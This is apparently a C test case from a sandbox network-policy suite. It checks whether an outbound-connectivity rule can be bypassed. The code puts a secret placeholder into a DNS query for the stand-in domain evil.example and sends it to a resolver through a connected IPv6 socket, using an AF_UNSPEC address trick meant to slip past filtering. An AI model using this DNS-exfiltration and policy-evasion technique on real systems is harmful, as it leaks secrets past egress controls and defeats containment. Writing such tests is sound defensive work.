// class: network
// rule: outbound_connectivity
// policy: shared.yaml
// success: a question that carries data goes to the resolver by an IPv6 socket that is connected
//   to it, with an address that Linux ignores: its family says "unspecified"
// proof: query
// needs: resolver
#include "attack.h"

int main(void)
{
    static char question[256] = {0x12, 0x34, 1, 0, 0, 1};
    size_t size = 12;
    const char *labels[] = {SECRET_, "evil", "example"};
    struct sockaddr_in6 resolver = {.sin6_family = AF_INET6, .sin6_port = htons(53)};
    struct sockaddr_in nowhere = {.sin_family = AF_UNSPEC, .sin_port = htons(9)};
    struct timeval longest = {.tv_sec = patience(3)};
    char answer[512];
    for (int i = 0; i < 3; i++) {
        question[size] = (char)strlen(labels[i]);
        memcpy(question + size + 1, labels[i], strlen(labels[i]));
        size += strlen(labels[i]) + 1;
    }
    memcpy(question + size, "\0\0\1\0\1", 5);
    size += 5;
    inet_pton(AF_INET6, env("ATTACK_RESOLVER6"), &resolver.sin6_addr);
    nowhere.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    int fd = socket(AF_INET6, SOCK_DGRAM, 0);
    if (connect(fd, (struct sockaddr *)&resolver, sizeof resolver) != 0) return stopped("connect");
    setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &longest, sizeof longest);
    if (sendto(fd, question, size, 0, (struct sockaddr *)&nowhere, sizeof nowhere) < 0)
        return stopped("sendto");
    if (recv(fd, answer, sizeof answer, 0) > 12) return reached();
    errno = EACCES;
    return stopped("nothing was asked");
}
